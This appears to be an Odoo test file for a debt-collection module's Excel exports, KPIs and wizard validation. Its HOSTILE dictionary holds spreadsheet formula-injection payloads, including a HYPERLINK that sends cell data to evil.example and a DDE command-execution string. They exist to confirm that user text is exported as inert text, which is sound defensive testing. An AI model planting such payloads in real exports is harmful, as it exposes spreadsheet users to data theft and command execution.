import base64
import io
import zipfile
from datetime import date, timedelta

from freezegun import freeze_time
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from odoo import Command
from odoo.exceptions import UserError, ValidationError
from odoo.tests import new_test_user, tagged

from ..report.collection_xlsx import CollectionWorkbook, ReportOptions
from ..report.xlsx_aging import AgingReport
from .common import CollectionCommon

AS_OF = date(2026, 6, 30)
# names a spreadsheet would run as a formula, open as a link or read as a number
HOSTILE = {
    "customer": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "reference": "+1+2",
    "company": "=Aging!A1",
    "collector": "-2+3",
    "level": "@SUM(A1:A9)",
    "stage": "\t=1+1",
    "legal_stage": "\r=1+1",
    "legal_officer": "=cmd|' /C calc'!A0",
    "lawyer": "http://evil.example/lawyer",
    "court": "@court",
    "docket": "-1",
}
BUCKET_COLUMNS = ["Not due", "1-30", "31-60", "61-90", "91-180", "181-365", "Over 365"]


@tagged("post_install", "-at_install")
class TestExcelReports(CollectionCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.write({"collection_case_min_amount": 0, "collection_case_min_days": 1})
        cls.alpha = cls._customer("Alpha Trading", ref="C-ALPHA")
        cls.beta = cls._customer("北京贝塔科技有限公司", ref="C-BETA")
        cls.on_due = cls._invoice(cls.alpha, 1000, AS_OF)  # 0 days: not due
        cls.edge_30 = cls._invoice(cls.alpha, 500, AS_OF - timedelta(days=30))
        cls.edge_31 = cls._invoice(cls.alpha, 700, AS_OF - timedelta(days=31))
        cls.old = cls._invoice(cls.beta, 300, AS_OF - timedelta(days=400))
        cls._pay(cls.edge_31, 200, AS_OF - timedelta(days=5))  # before: counts
        cls._pay(cls.edge_30, 500, AS_OF + timedelta(days=3))  # after: ignored
        cls.foreign = cls._customer("Foreign Co")
        cls._invoice(cls.foreign, 999, AS_OF - timedelta(days=10), company=cls.company_b)

    def _export_file(self, report_type, **values):
        wizard = self.env["collection.report.wizard"].create(
            {"report_type": report_type, "date": AS_OF, **values}
        )
        action = wizard.action_export()
        self.assertIn("/web/content/", action["url"])
        self.assertTrue(wizard.filename.endswith(f"{AS_OF}.xlsx"))
        return io.BytesIO(base64.b64decode(wizard.file))

    def _export(self, report_type, **values):
        return load_workbook(self._export_file(report_type, **values), data_only=False)

    @staticmethod
    def _rows(sheet, first=4):
        return [
            [cell.value for cell in row]
            for row in sheet.iter_rows(min_row=first)
            if any(cell.value is not None for cell in row)
        ]

    def test_aging_buckets_as_of_a_date(self):
        book = self._export("aging")
        self.assertEqual(book.sheetnames, ["Aging", "Chart"])
        sheet = book["Aging"]
        header = [cell.value for cell in sheet[3]]
        self.assertEqual(
            header[:7],
            [
                "Company",
                "Reference",
                "Customer",
                "Collector",
                "Follow-up level",
                "Case stage",
                "Risk",
            ],
        )
        self.assertEqual(header[7:14], BUCKET_COLUMNS)
        self.assertEqual(header[14], "Total")
        self.assertEqual(sheet.freeze_panes, "A4")
        self.assertTrue(sheet.auto_filter.ref)
        rows = self._rows(sheet)
        by_customer = {row[2]: row for row in rows if row[2]}
        self.assertEqual(set(by_customer), {"Alpha Trading", "北京贝塔科技有限公司"})
        alpha = dict(zip(header, by_customer["Alpha Trading"], strict=True))
        self.assertEqual(alpha["Reference"], "C-ALPHA")
        self.assertAlmostEqual(alpha["Not due"], 1000, msg="due on the day: not overdue")
        self.assertAlmostEqual(alpha["1-30"], 500, msg="30 days, paid only later")
        self.assertAlmostEqual(alpha["31-60"], 500, msg="31 days, 200 paid before")
        self.assertAlmostEqual(alpha["Total"], 2000)
        beta = dict(zip(header, by_customer["北京贝塔科技有限公司"], strict=True))
        self.assertAlmostEqual(beta["Over 365"], 300)
        total_row = next(row for row in rows if str(row[0]).startswith("Total"))
        self.assertEqual(total_row[14], "=SUM(O4:O5)")
        # the total equals the residuals of the invoices as they were on that day
        residuals = (
            sum((self.on_due | self.edge_30 | self.edge_31 | self.old).mapped("amount_residual"))
            + 500
        )  # edge_30 was paid after the date
        self.assertAlmostEqual(alpha["Total"] + beta["Total"], residuals)

    def test_aging_filters_companies_and_collectors(self):
        self.alpha.with_company(self.company).collector_id = self.collector
        book = self._export("aging", company_ids=[Command.set((self.company | self.company_b).ids)])
        customers = {row[2] for row in self._rows(book["Aging"]) if row[2]}
        self.assertIn("Foreign Co", customers)
        book = self._export("aging", collector_ids=[Command.set(self.collector.ids)])
        customers = {row[2] for row in self._rows(book["Aging"]) if row[2]}
        self.assertEqual(customers, {"Alpha Trading"})

    def _export_queries(self, report_type):
        wizard = self.env["collection.report.wizard"].create(
            {"report_type": report_type, "date": AS_OF}
        )
        self.env.invalidate_all()
        before = self.env.cr.sql_log_count
        wizard.action_export()
        return self.env.cr.sql_log_count - before

    def test_queries_do_not_grow_with_customers_without_case(self):
        """Most customers of a book have no case: their own collector (a company-
        dependent field) is read for all of them at once, not once per customer."""
        self.alpha.with_company(self.company).collector_id = self.collector
        report_types = ("aging", "overdue_list")
        for report_type in report_types:
            self._export_queries(report_type)  # warm the caches of the registry
        few = {report_type: self._export_queries(report_type) for report_type in report_types}
        for index in range(15):
            customer = self._customer(f"Customer without case {index}")
            customer.with_company(self.company).collector_id = self.collector
            self._invoice(customer, 100 + index, AS_OF - timedelta(days=40))
        many = {report_type: self._export_queries(report_type) for report_type in report_types}
        self.assertEqual(many, few)

    def test_collector_cases_and_overdue_list(self):
        with freeze_time(AS_OF):
            cases = self.env["collection.case"]._collection_sync(self.company, AS_OF)
        cases.collector_id = self.collector
        alpha_case = cases.filtered(lambda c: c.partner_id == self.alpha)
        with freeze_time(AS_OF - timedelta(days=2)):
            self.env["collection.interaction"].with_user(self.collector).create(
                {
                    "case_id": alpha_case.id,
                    "channel": "call",
                    "outcome": "promise",
                    "promise_amount": 300,
                    "promise_date": AS_OF + timedelta(days=5),
                }
            )
        self._pay(self.on_due, 400, AS_OF - timedelta(days=1))  # not in a case yet
        self._pay(self.old, 100, AS_OF)  # counts: paid once in the case
        self.env["collection.target"].create(
            {"collector_id": self.collector.id, "month": AS_OF, "amount": 1000}
        )
        book = self._export("collector", date_from=AS_OF.replace(day=1))
        sheet = book["Collectors"]
        header = [cell.value for cell in sheet[3]]
        [row, total] = self._rows(sheet)
        self.assertEqual(total[0], f"Total {self.company.name}")
        values = dict(zip(header, row, strict=True))
        self.assertEqual(values["Collector"], self.collector.name)
        self.assertEqual(values["Open cases"], 2)
        self.assertAlmostEqual(
            values["Recovered in period"],
            100,
            msg="payments on case invoices since the case opened",
        )
        self.assertEqual(values["Promises made"], 1)
        self.assertEqual(values["Call"], 1)
        self.assertAlmostEqual(values["Target"], 1000)
        self.assertAlmostEqual(values["Achievement (%)"], 10.0)

        book = self._export("cases")
        rows = self._rows(book["Cases"])[:-1]  # the last is the totals row
        self.assertEqual(len(rows), len(cases))
        self.assertTrue(all(row[0].startswith("CASE/") for row in rows))

        book = self._export("overdue_list")
        sheet = book["Overdue"]
        header = [cell.value for cell in sheet[3]]
        rows = {row[1]: dict(zip(header, row, strict=True)) for row in self._rows(sheet)[:-1]}
        self.assertEqual(set(rows), {"Alpha Trading", "北京贝塔科技有限公司"})
        self.assertEqual(rows["Alpha Trading"]["Promised for"].date(), AS_OF + timedelta(days=5))
        self.assertIn("Call", rows["Alpha Trading"]["Last action"])
        self.assertEqual(rows["北京贝塔科技有限公司"]["Days overdue"], 400)

    def _collector_book(self):
        """Cases opened on June 10th, one per collector; money comes in 10 and 20 days
        later; the first collector has a target."""
        day_open = AS_OF - timedelta(days=20)
        with freeze_time(day_open):
            cases = self.env["collection.case"]._collection_sync(self.company, day_open)
        alpha_case = cases.filtered(lambda c: c.partner_id == self.alpha)
        alpha_case.collector_id = self.collector
        (cases - alpha_case).collector_id = self.collector_2
        self._pay(self.edge_31, 100, day_open + timedelta(days=10))
        self._pay(self.old, 300, day_open + timedelta(days=20))
        self.env["collection.target"].create(
            {"collector_id": self.collector.id, "month": AS_OF, "amount": 200}
        )
        return cases

    def test_collector_performance_fills_days_to_recover_target_and_achievement(self):
        cases = self._collector_book()
        self.assertAlmostEqual(sum(cases.mapped("amount_assigned")), 800)
        book = self._export("collector", date_from=AS_OF.replace(day=1))
        sheet = book["Collectors"]
        header = [cell.value for cell in sheet[3]]
        rows = {row[1]: dict(zip(header, row, strict=True)) for row in self._rows(sheet)}
        mine, other = rows[self.collector.name], rows[self.collector_2.name]
        self.assertAlmostEqual(mine["Recovered in period"], 100)
        self.assertEqual(mine["Avg. days to recover"], 10.0)
        self.assertAlmostEqual(mine["Target"], 200)
        self.assertEqual(mine["Achievement (%)"], 50.0)
        self.assertAlmostEqual(other["Recovered in period"], 300)
        self.assertEqual(other["Avg. days to recover"], 20.0)
        self.assertEqual(other["Target"], 0, "no target: nothing to reach, a number")
        self.assertIsNone(other["Achievement (%)"], "no target: no achievement")
        # the company's totals: sums as formulas, rates of the sums
        total = rows[None]
        self.assertEqual(total["Company"], f"Total {self.company.name}")
        self.assertEqual(total["Recovered in period"], "=SUM(F4:F5)")
        self.assertEqual(total["Recovery rate (%)"], 50.0)
        self.assertEqual(total["Avg. days to recover"], 17.5)
        self.assertEqual(total["Achievement (%)"], 200.0)
        cached = load_workbook(
            self._export_file("collector", date_from=AS_OF.replace(day=1)), data_only=True
        )
        cached_total = self._rows(cached["Collectors"])[-1]
        self.assertAlmostEqual(cached_total[header.index("Recovered in period")], 400)
        self.assertAlmostEqual(cached_total[header.index("Target")], 200)
        chart = self._rows(book["Chart"], first=3)
        self.assertEqual(chart[0], ["Collector", "Recovered in period", "Target"])
        self.assertEqual(
            chart[1:], [[self.collector.name, 100, 200], [self.collector_2.name, 300, 0]]
        )

    def test_every_export_has_company_totals_and_a_chart(self):
        self._collector_book()
        money_totals = {
            "cases": ["Assigned", "Due", "Recovered", "Legal costs"],
            "overdue_list": ["Overdue amount"],
            "collector": ["Assigned", "Recovered in period", "Target"],
            "aging": ["Total"],
        }
        for report_type, labels in money_totals.items():
            with self.subTest(report_type=report_type):
                values = {"date_from": AS_OF.replace(day=1)} if report_type == "collector" else {}
                content = self._export_file(report_type, **values)
                charts = [
                    name
                    for name in zipfile.ZipFile(content).namelist()
                    if name.startswith("xl/charts/chart")
                ]
                self.assertEqual(len(charts), 1, "one chart")
                book = load_workbook(content, data_only=True)
                self.assertEqual(book.sheetnames[-1], "Chart")
                sheet = book[book.sheetnames[0]]
                header = [cell.value for cell in sheet[3]]
                rows = self._rows(sheet)
                total = dict(zip(header, rows[-1], strict=True))
                self.assertTrue(str(rows[-1][0]).startswith("Total "), rows[-1])
                for label in labels:
                    index = header.index(label)
                    expected = sum(row[index] or 0 for row in rows[:-1])
                    self.assertAlmostEqual(total[label], expected, msg=label)
                self.assertGreater(len(self._rows(book["Chart"], first=4)), 0)

    def _highest_level(self, partner):
        invoices = self.env["account.move"].search(
            [
                ("commercial_partner_id", "=", partner.id),
                ("company_id", "=", self.company.id),
                *self.env["account.move"]._collection_open_invoice_domain(),
            ]
        )
        return invoices.collection_level_id.sorted(lambda level: (level.delay_days, level.id))[-1:]

    def test_every_report_exports_once_reminders_have_set_levels(self):
        with freeze_time(AS_OF):
            self.env["collection.followup"]._collection_run(self.company, AS_OF)
        level = self._highest_level(self.alpha)
        self.assertTrue(level, "the run moved Alpha's invoices to a level")
        sheet = self._export("aging")["Aging"]
        header = [cell.value for cell in sheet[3]]
        rows = {row[2]: dict(zip(header, row, strict=True)) for row in self._rows(sheet) if row[2]}
        self.assertEqual(rows["Alpha Trading"]["Follow-up level"], level.name)
        self.assertIsNone(rows["北京贝塔科技有限公司"]["Follow-up level"], "a draft moves nothing")
        book = self._export("collector", date_from=AS_OF.replace(day=1))
        self.assertEqual(book.sheetnames, ["Collectors", "Chart"])
        self.assertEqual(self._export("cases").sheetnames, ["Cases", "Chart"])
        self.assertEqual(self._export("overdue_list").sheetnames, ["Overdue", "Chart"])

    def _hostile_book(self):
        """Every text a user can type, set to something a spreadsheet would evaluate."""
        evil = self._customer(HOSTILE["customer"], ref=HOSTILE["reference"], email="e@x.com")
        invoice = self._invoice(evil, 800, AS_OF - timedelta(days=50))
        self.company.name = HOSTILE["company"]
        self.collector.name = HOSTILE["collector"]
        self.legal_officer.name = HOSTILE["legal_officer"]
        level = self.policy.level_ids[-1:]
        level.name = HOSTILE["level"]
        invoice.collection_level_id = level
        with freeze_time(AS_OF):
            cases = self.env["collection.case"]._collection_sync(self.company, AS_OF)
            cases.collector_id = self.collector
            case = cases.filtered(lambda c: c.partner_id == evil)
            case._collection_escalate("Escalated")
        case.write(
            {
                "legal_user_id": self.legal_officer.id,
                "legal_lawyer_id": self._customer(HOSTILE["lawyer"], email="l@x.com").id,
                "legal_court_id": self._customer(HOSTILE["court"], email="c@x.com").id,
                "legal_docket": HOSTILE["docket"],
            }
        )
        case.stage_id.name = HOSTILE["stage"]
        case.legal_stage_id.name = HOSTILE["legal_stage"]

    def _assert_text_cells(self, book, expected):
        """``expected`` texts are in ``book`` as they are; its only formulas are totals."""
        texts = set()
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertIsNone(cell.hyperlink, cell.coordinate)
                    if cell.data_type == "f":
                        self.assertRegex(cell.value, r"^=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|0)$")
                    elif isinstance(cell.value, str):
                        # control characters are stored escaped (_x000D_), as OOXML says;
                        # Excel decodes them, openpyxl leaves inline strings as stored
                        self.assertEqual(cell.data_type, "s")
                        texts.add(unescape(cell.value))
        for key in expected:
            self.assertIn(HOSTILE[key], texts, key)

    def test_user_text_is_written_as_text_never_as_a_formula(self):
        self._hostile_book()
        people = ["company", "customer", "collector"]
        aging = self._export("aging")
        self._assert_text_cells(aging, [*people, "reference", "level", "stage"])
        self._assert_text_cells(
            self._export("cases"),
            [*people, "stage", "legal_stage", "legal_officer", "lawyer", "court", "docket"],
        )
        self._assert_text_cells(
            self._export("collector", date_from=AS_OF.replace(day=1)), ["company", "collector"]
        )
        self._assert_text_cells(self._export("overdue_list"), people)
        # the chart names its series after the companies without reading a name as a formula
        with zipfile.ZipFile(self._export_file("aging")) as archive:
            chart = archive.read("xl/charts/chart1.xml").decode()
        self.assertIn("<c:f>Chart!$A$4</c:f>", chart)
        self.assertNotIn("<c:f>Aging!A1</c:f>", chart)
        self.assertNotIn("<c:f>=Aging!A1</c:f>", chart)

    def test_only_managers_export(self):
        with self.assertRaises(UserError):
            self.env["collection.report.wizard"].with_user(self.collector).create(
                {"report_type": "aging", "date": AS_OF}
            ).action_export()
        with self.assertRaises(UserError):
            self.env["collection.report.wizard"].create(
                {"report_type": "collector", "date": AS_OF, "date_from": AS_OF + timedelta(1)}
            )

    def _wizard(self, report_type="aging", user=None, **values):
        env = self.env(user=user) if user else self.env
        return env["collection.report.wizard"].create(
            {"report_type": report_type, "date": AS_OF, **values}
        )

    @freeze_time(AS_OF)
    def test_dates_are_bounded_by_today_and_the_period_by_its_end(self):
        for report_type in ("aging", "collector", "cases", "overdue_list"):
            with self.assertRaisesText(ValidationError, "after today"):
                self._wizard(report_type, date=AS_OF + timedelta(days=1))
            self._wizard(report_type, date_from=AS_OF.replace(day=1)).action_export()
        # the last day a date can hold: refused before any day after it is computed
        with self.assertRaisesText(ValidationError, "after today"):
            self._wizard("collector", date=date(9999, 12, 31), date_from=date(9999, 12, 1))
        with self.assertRaisesText(ValidationError, "must start"):
            self._wizard("collector", date_from=AS_OF + timedelta(days=1))
        with self.assertRaisesText(ValidationError, "must start"):
            self._wizard("collector", date_from=False)
        wizard = self._wizard("collector", date_from=AS_OF.replace(day=1))
        with self.assertRaisesText(ValidationError, "after today"):
            wizard.date = date(9999, 12, 31)

    def test_companies_are_among_the_users_own(self):
        with self.assertRaisesText(ValidationError, "at least one company"):
            self._wizard(company_ids=[Command.clear()])
        for report_type in ("aging", "collector", "cases", "overdue_list"):
            with self.assertRaisesText(ValidationError, self.company.name):
                self._wizard(
                    report_type,
                    user=self.manager_b,
                    date_from=AS_OF.replace(day=1),
                    company_ids=[Command.set(self.company.ids)],
                )

    def test_a_company_left_out_of_the_company_switcher_is_still_exported(self):
        """The companies chosen in the wizard are the ones exported, whichever companies
        the switcher shows: the case stage of a customer of the other company is read."""
        with freeze_time(AS_OF):
            case = self.env["collection.case"]._collection_sync(
                self.company_b, AS_OF, force_partners=self.foreign
            )
        self.assertTrue(case)
        wizard = (
            self.env["collection.report.wizard"]
            .with_context(allowed_company_ids=self.company.ids)
            .create({"report_type": "aging", "date": AS_OF, "company_ids": self.company_b.ids})
        )
        wizard.action_export()
        book = load_workbook(io.BytesIO(base64.b64decode(wizard.file)))
        header = [cell.value for cell in book["Aging"][3]]
        [foreign] = [
            dict(zip(header, row, strict=True))
            for row in self._rows(book["Aging"])
            if row[2] == "Foreign Co"
        ]
        self.assertEqual(foreign["Case stage"], case.stage_id.name)

    def test_collectors_work_for_a_chosen_company(self):
        with self.assertRaisesText(ValidationError, self.manager_b.name):
            self._wizard(collector_ids=[Command.set(self.manager_b.ids)])
        portal = new_test_user(self.env, login="debtor", groups="base.group_portal")
        with self.assertRaisesText(ValidationError, "internal users"):
            self._wizard(collector_ids=[Command.set(portal.ids)])
        self._wizard(
            collector_ids=[Command.set(self.manager_b.ids)],
            company_ids=[Command.set(self.all_companies.ids)],
        ).action_export()

    def test_aging_with_nothing_to_chart_opens_with_an_empty_chart(self):
        workbook = CollectionWorkbook()
        nothing = ReportOptions(
            companies=self.env["res.company"], date=AS_OF, collectors=self.env["res.users"]
        )
        AgingReport(self.env, nothing).render(workbook)
        book = load_workbook(io.BytesIO(workbook.close()))
        self.assertEqual(book.sheetnames, ["Aging", "Chart"])
        self.assertEqual(self._rows(book["Aging"]), [])

    def test_aging_analysis_view(self):
        lines = self.env["collection.aging.report"].search(
            [("partner_id", "=", self.beta.id), ("company_id", "=", self.company.id)]
        )
        self.assertEqual(lines.bucket, "over_365")
        self.assertAlmostEqual(sum(lines.mapped("amount_residual")), 300)

    def test_a_reminded_invoice_reset_to_draft_gives_no_level(self):
        with freeze_time(AS_OF):
            self.env["collection.followup"]._collection_run(self.company, AS_OF)
        invoices = self.env["account.move"].search(
            [("commercial_partner_id", "=", self.alpha.id), ("collection_level_id", "!=", False)]
        )
        self.assertTrue(invoices)
        invoices.button_draft()
        self.assertTrue(invoices.collection_level_id)
        sheet = self._export("aging")["Aging"]
        header = [cell.value for cell in sheet[3]]
        rows = {row[2]: dict(zip(header, row, strict=True)) for row in self._rows(sheet) if row[2]}
        self.assertIsNone(rows["Alpha Trading"]["Follow-up level"])


@tagged("post_install", "-at_install")
class TestKpis(CollectionCommon):
    def test_dso_countback_and_cei_on_a_hand_example(self):
        snapshot = self.env["collection.snapshot"]
        # 1,500 open; the last 30 days sold 1,000, the 30 before 1,000:
        # 30 days + 500 / 1,000 of the next 30 = 45 days
        self.assertEqual(snapshot._collection_dso(1500, {0: 1000, 1: 1000}), 45.0)
        self.assertEqual(snapshot._collection_dso(0, {0: 1000}), 0.0)
        # B=1,000, S=500, E=900 of which 300 current: (1500-900)/(1500-300) = 50 %
        self.assertEqual(snapshot._collection_cei(1000, 500, 900, 300), 50.0)

    def test_snapshot_is_idempotent_for_a_day(self):
        customer = self._customer("Snap Co")
        day = date(2026, 6, 30)
        self._invoice(
            customer, 1000, day - timedelta(days=45), invoice_date=day - timedelta(days=75)
        )
        self._invoice(
            customer, 400, day + timedelta(days=10), invoice_date=day - timedelta(days=20)
        )
        snapshot = self.env["collection.snapshot"]
        with freeze_time(day):
            first = snapshot._collection_take(self.company, day)
            second = snapshot._collection_take(self.company, day)
        self.assertEqual(first, second)
        self.assertEqual(len(first), 1, "no collector has cases yet: the company only")
        self.assertAlmostEqual(first.amount_open, 1400)
        self.assertAlmostEqual(first.amount_overdue, 1000)
        self.assertAlmostEqual(first.amount_31_60, 1000)
        # sales: 400 in period 0, 1,000 in period 2 -> 30 + 30 (no sales) + 30 = 90
        self.assertEqual(first.dso, 90.0)
        with freeze_time(day):
            self.env["collection.snapshot"]._cron_collection_snapshot()
        self.assertEqual(
            self.env["collection.snapshot"].search_count(
                [("company_id", "=", self.company.id), ("date", "=", day)]
            ),
            1,
        )

    def test_overview_for_managers(self):
        customer = self._customer("Overview Co")
        day = date(2026, 6, 30)
        self._invoice(customer, 800, day - timedelta(days=40))
        self._invoice(customer, 200, day + timedelta(days=5), invoice_date=day - timedelta(days=10))
        small = self._customer("Small Co")
        self._invoice(small, 50, day - timedelta(days=40))
        self.company.write({"collection_case_min_amount": 0, "collection_case_min_days": 1})
        with freeze_time(day):
            self.env["collection.case"]._collection_sync(self.company, day)
            overview = self.env["collection.overview"].create({})
            self.assertAlmostEqual(overview.amount_open, 1050)
            self.assertAlmostEqual(overview.amount_overdue, 850)
            self.assertEqual(overview.case_count, 2)
            self.assertEqual(overview.top_debtor_ids[0], customer)
            self.assertIn("New", overview.stage_summary)


@tagged("post_install", "-at_install")
class TestAgingReadsWhatTheOrmHolds(CollectionCommon):
    """The aging analysis and the aging as of a date read the fields the ORM still
    holds in its cache, not yet written to the database."""

    def test_aging_analysis_shows_a_collector_not_yet_written_to_the_database(self):
        customer = self._customer("Gamma Foods")
        self._invoice(customer, 800, date.today() - timedelta(days=40))
        self.env.flush_all()
        customer.with_company(self.company).collector_id = self.collector
        lines = self.env["collection.aging.report"].search([("partner_id", "=", customer.id)])
        self.assertEqual(lines.collector_id, self.collector)

    def test_aging_as_of_a_date_counts_a_branch_under_a_parent_not_yet_written(self):
        parent = self._customer("Delta Holding", is_company=True)
        branch = self._customer("Delta Branch")
        self._invoice(branch, 600, AS_OF - timedelta(days=10))
        self.env.flush_all()
        branch.parent_id = parent
        aging = self.env["collection.aging.report"]._collection_aging(self.company, AS_OF)
        self.assertEqual(aging[(parent.id, self.company.id)]["1_30"], 600)
        self.assertNotIn((branch.id, self.company.id), aging)


@tagged("post_install", "-at_install")
class TestAgingAnalysisOrder(CollectionCommon):
    def test_aged_receivables_pivot_lists_buckets_in_age_order(self):
        customer = self._customer("Order Co")
        today = date.today()
        for days in (400, 200, 100, 70, 40, 10, -5):
            self._invoice(customer, 100, today - timedelta(days=days))
        report = self.env["collection.aging.report"]
        # as the pivot and the graph read them: groups of one or two levels, not lazy
        groups = report.read_group(
            [("partner_id", "=", customer.id)], ["amount_residual:sum"], ["bucket"], lazy=False
        )
        keys = [key for key, _label in report._fields["bucket"].selection]
        self.assertEqual([group["bucket"] for group in groups], keys)
        nested = report.read_group(
            [("partner_id", "=", customer.id)],
            ["amount_residual:sum"],
            ["partner_id", "bucket"],
            lazy=False,
        )
        self.assertEqual([group["bucket"] for group in nested], keys)
        desc = report.read_group(
            [("partner_id", "=", customer.id)],
            ["amount_residual:sum"],
            ["bucket"],
            orderby="bucket desc",
            lazy=False,
        )
        self.assertEqual([group["bucket"] for group in desc], keys[::-1])
